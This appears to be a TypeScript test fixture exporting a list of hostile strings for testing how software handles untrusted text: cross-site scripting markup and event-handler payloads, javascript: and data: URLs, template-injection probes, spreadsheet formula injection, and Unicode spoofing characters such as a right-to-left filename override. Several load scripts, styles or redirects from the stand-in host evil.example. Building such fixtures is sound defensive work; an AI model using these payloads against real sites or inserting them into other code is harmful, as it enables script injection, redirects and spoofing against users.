// Sixty texts that are more than text to somebody: to a browser, a template, a terminal, a spreadsheet, a reader's eye.
const MARKUP = [
  '<script>window.__hit=1</script>',
  '<ScRiPt src=//evil.example/x.js></ScRiPt>',
  '<img src=x onerror="window.__hit=1">',
  '<img/src=`x`/onerror=window.__hit=1>',
  '<svg onload="window.__hit=1">',
  '<svg><script href="data:,window.__hit=1"/></svg>',
  '<svg><a xlink:href="javascript:window.__hit=1"><text y=20>x</text></a></svg>',
  '<iframe src="javascript:parent.__hit=1"></iframe>',
  '<iframe srcdoc="<script>parent.__hit=1</script>">',
  '<body onpageshow=window.__hit=1>',
  '<details open ontoggle=window.__hit=1>',
  '<math><mtext></p><img src=x onerror=window.__hit=1>',
  '<object data="data:text/html,<script>window.__hit=1</script>">',
  '<embed src="//evil.example/x.swf">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href=//evil.example/>',
  '<form action=//evil.example><button>ok</button></form>',
  '<style>body{display:none}</style>',
  '<style>@import "//evil.example/x.css"</style>',
  '<template><script>window.__hit=1</script></template>',
  '</title><script>window.__hit=1</script>',
  '</textarea><script>window.__hit=1</script>',
  '--><script>window.__hit=1</script><!--',
  ']]><script>window.__hit=1</script>',
  '"><img src=x onerror=window.__hit=1>',
  "'><img src=x onerror=window.__hit=1>",
  '" autofocus onfocus="window.__hit=1',
  "' onmouseover='window.__hit=1",
  '<a href="javascript:window.__hit=1">click</a>',
  '<x contenteditable onblur=window.__hit=1>',
  '<noscript><p title="</noscript><img src=x onerror=window.__hit=1>">',
  '<plaintext>',
  '<xmp><img src=x onerror=window.__hit=1></xmp>',
]
const ADDRESSES = [
  'javascript:window.__hit=1',
  'JaVaScRiPt:window.__hit=1//',
  'data:text/html,<script>window.__hit=1</script>',
  'vbscript:msgbox(1)',
  'https://evil.example/?a=1&b=2',
  '//evil.example',
  '[click](javascript:window.__hit=1)',
  '![x](https://evil.example/x.png)',
]
const TEMPLATES = [
  '{{constructor.constructor("window.__hit=1")()}}',
  '${window.__hit=1}',
  '{count}',
  '#{7*7}',
  '<%= 7*7 %>',
]
const LINES = [
  'line\nbreak',
  'carriage\r\nreturn: x',
  'tab\tand\vmore',
  '=HYPERLINK("//evil.example")',
  '@SUM(1+1)',
  '-1+1|cmd',
]
const SIGNS = [
  'nul is not here: \u2400',
  '\u202egnp.exe',
  '\u2066isolated\u2069 \u200fmarks\u200e',
  'zero\u200bwidth\u200djoined\ufeff',
  'tag\u{e0041}\u{e0042}letters',
  'z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308a\u0309\u030a\u030bl\u030cgo',
  '&lt;b&gt;&amp;&#x3c;script&#x3e;',
]

export const PAYLOADS: readonly string[] = [...MARKUP, ...ADDRESSES, ...TEMPLATES, ...LINES, ...SIGNS]

/** As long as a name may ever be, without a place to break. */
export const LONG = 'W'.repeat(10_000)
